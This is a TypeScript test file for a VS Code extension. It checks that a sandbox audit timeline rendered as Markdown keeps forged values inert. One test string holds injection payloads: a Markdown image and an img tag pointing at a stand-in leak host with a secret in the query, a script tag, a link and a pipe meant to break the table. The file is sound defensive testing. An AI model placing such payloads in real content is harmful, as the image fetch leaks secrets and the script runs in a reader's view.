/**
 * The session timeline as Markdown: what the sandbox put in the record (a command line
 * its shell reported, a host it asked for) stays inert text when a person opens the
 * document's preview, rendered here by markdown-it as VS Code's preview does (HTML and
 * linkify on). An image or HTML there would be fetched by the host, around the proxy.
 */
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import type { AuditRecord } from '../../runtime/audit';
import { timelineMarkdown } from '../../extension/timeline';

// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it') as new (o: Record<string, unknown>) => { render(src: string): string };

const verify = { ok: true, records: 4, file: '/state/audit.jsonl' };
const rec = (seq: number, type: string, fields: Record<string, unknown>): AuditRecord =>
  ({ seq, ts: `2026-12-01T08:00:0${seq}.000Z`, session: 's1', type, prev: 'p', hash: 'h', ...fields }) as unknown as AuditRecord;

test('forged command lines, hosts and fields render as text in the preview: no image, link, HTML or table break', () => {
  const evil = '![x](https://leak.example/?k=SECRET) <img src="https://leak.example/i.png"> <script>alert(1)</script> [click](https://leak.example) | extra cell &lt;b&gt; `tick`';
  const md = timelineMarkdown('s1', [
    rec(1, 'session.start', { workspace: `/w/${evil}`, driver: 'bwrap' }),
    rec(2, 'command.end', { commandLine: evil, exitCode: 0, durationMs: 5 }),
    rec(3, 'net.connect', { conn: 'c1', host: `h${evil}`, port: 80, method: 'GET', path: `/${evil}`, decision: 'deny', rule: 'default-deny' }),
    rec(4, 'something.new', { note: evil }),
  ], verify);
  const html = new MarkdownIt({ html: true, linkify: true }).render(md);
  for (const tag of ['<img', '<script', '<a ', '<b>']) assert.ok(!html.includes(tag), `${tag} in the rendered timeline:\n${html}`);
  // Each record stays one row of four cells: a forged "|" does not add cells.
  const rows = html.split('<tr>').slice(2);
  assert.equal(rows.length, 4);
  for (const r of rows) assert.equal(r.split('<td>').length - 1, 4, r);
  // And what was there is still readable.
  assert.match(html, /!\[x\]\(https:\/\/leak\.example\/\?k=SECRET\)/);
  assert.match(html, /&lt;img src=/);
});

test('ordinary values read as they are in the source: hosts, ports and paths unescaped', () => {
  const md = timelineMarkdown('s1', [rec(1, 'net.connect', { conn: 'c1', host: 'registry.example.org', port: 443, protocol: 'connect', decision: 'allow', rule: 'registry.example.org' })], verify);
  assert.match(md, /\*\*allowed\*\* registry\.example\.org:443 \(rule registry\.example\.org\)/);
  assert.ok(md.includes('registry.example.org:443'));
});
